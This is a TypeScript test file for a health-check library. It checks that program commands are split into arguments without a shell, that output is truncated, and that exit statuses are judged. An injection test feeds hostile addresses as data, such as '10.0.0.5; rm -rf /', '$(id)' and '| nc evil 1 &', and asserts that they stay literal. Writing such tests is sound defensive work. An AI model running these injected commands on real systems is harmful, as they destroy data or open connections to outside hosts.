import {
  MAX_PROGRAM_OUTPUT,
  judgeProgram,
  programArgv,
  programOutput,
  utf8,
  type ProgramRun,
  type Target,
} from '@piranha-ts/checks';

const target: Target = { address: '10.0.0.5', port: 8080 };

function argv(command: string, at: Target = target): readonly string[] {
  const result = programArgv(command, at);
  if (!result.ok) throw new Error(result.error);
  return result.argv;
}

describe('programArgv: words split on spaces, no shell', () => {
  test('%h and %p as whole words, as the original did', () => {
    expect(argv('/usr/local/bin/check_http %h %p')).toEqual([
      '/usr/local/bin/check_http',
      '10.0.0.5',
      '8080',
    ]);
  });

  test('%h and %p inside words, %% for a literal percent sign', () => {
    expect(argv('check --url=http://%h:%p/ --warn=90%% --raw=%x')).toEqual([
      'check',
      '--url=http://10.0.0.5:8080/',
      '--warn=90%',
      '--raw=%x',
    ]);
  });

  test('runs of spaces are one separator; tabs are not separators, as in the original', () => {
    expect(argv('  check   -H\t%h  ')).toEqual(['check', '-H\t10.0.0.5']);
  });

  test('a command of blanks only is refused', () => {
    expect(programArgv('   ', target)).toEqual({
      ok: false,
      error: 'send_program names no command',
    });
  });

  test.each([
    '10.0.0.5; rm -rf /',
    '$(id)',
    '`reboot`',
    '\'quoted\' "double"',
    'with  blanks\tand\nnewline',
    '%p%h%%',
    '| nc evil 1 &',
  ])('a hostile address %j stays one literal argument', (address) => {
    const built = argv('probe -H %h --name=host-%h done', { address, port: 80 });
    expect(built).toEqual(['probe', '-H', address, `--name=host-${address}`, 'done']);
  });

  test('substituted values are not substituted again', () => {
    expect(argv('probe %h', { address: '%p', port: 1 })).toEqual(['probe', '%p']);
  });

  test('shell syntax in the configured command is passed on literally', () => {
    expect(argv('check %h;id $(whoami) `x` >out')).toEqual([
      'check',
      '10.0.0.5;id',
      '$(whoami)',
      '`x`',
      '>out',
    ]);
  });
});

describe('programOutput', () => {
  test('one trailing newline is dropped, nothing else', () => {
    expect(programOutput(utf8('OK\n'))).toEqual(utf8('OK'));
    expect(programOutput(utf8('OK'))).toEqual(utf8('OK'));
    expect(programOutput(utf8('OK\n\n'))).toEqual(utf8('OK\n'));
    expect(programOutput(utf8(''))).toEqual(utf8(''));
  });

  test('only the first 4095 bytes, up to any NUL', () => {
    expect(programOutput(utf8('x'.repeat(5000))).length).toBe(MAX_PROGRAM_OUTPUT);
    expect(programOutput(Uint8Array.of(0x4f, 0x4b, 0x00, 0x21, 0x0a))).toEqual(utf8('OK'));
  });
});

describe('judgeProgram: exit status and output (decision on the 16.3 quirk)', () => {
  const cmd = ['check', '10.0.0.5'];
  const exited = (code: number, stdout = ''): ProgramRun => ({
    kind: 'exited',
    code,
    stdout: utf8(stdout),
  });
  const reason = (wanted: string | undefined, run: ProgramRun): string => {
    const outcome = judgeProgram(cmd, wanted === undefined ? undefined : utf8(wanted), run);
    return outcome.ok ? 'pass' : outcome.failure.reason;
  };

  test.each([
    ['OK', exited(0, 'OK\n'), 'pass'],
    ['OK', exited(0, 'OK'), 'pass'],
    ['OK', exited(0, 'OK then more\n'), 'program-output'],
    ['OK', exited(0, 'ok\n'), 'program-output'],
    ['OK', exited(0, ''), 'program-output'],
    [undefined, exited(0, 'whatever\n'), 'pass'],
    [undefined, exited(0), 'pass'],
    // The original counted these as passes whenever an expect string was set.
    ['OK', exited(1, 'OK\n'), 'program-failed'],
    ['OK', { kind: 'timeout' }, 'program-timeout'],
    ['OK', { kind: 'killed', signal: 'SIGSEGV' }, 'program-failed'],
    ['OK', { kind: 'spawn-error', error: 'ENOENT' }, 'program-failed'],
    [undefined, exited(2), 'program-failed'],
    [undefined, { kind: 'timeout' }, 'program-timeout'],
  ] as const)('expect %j, run %j -> %s', (wanted, run, expected) =>
    expect(reason(wanted, run)).toBe(expected),
  );

  test('failures carry the argv and how the program ended, for the log', () => {
    expect(judgeProgram(cmd, undefined, exited(3))).toEqual({
      ok: false,
      failure: { reason: 'program-failed', argv: cmd, how: 'exit status 3' },
    });
  });
});
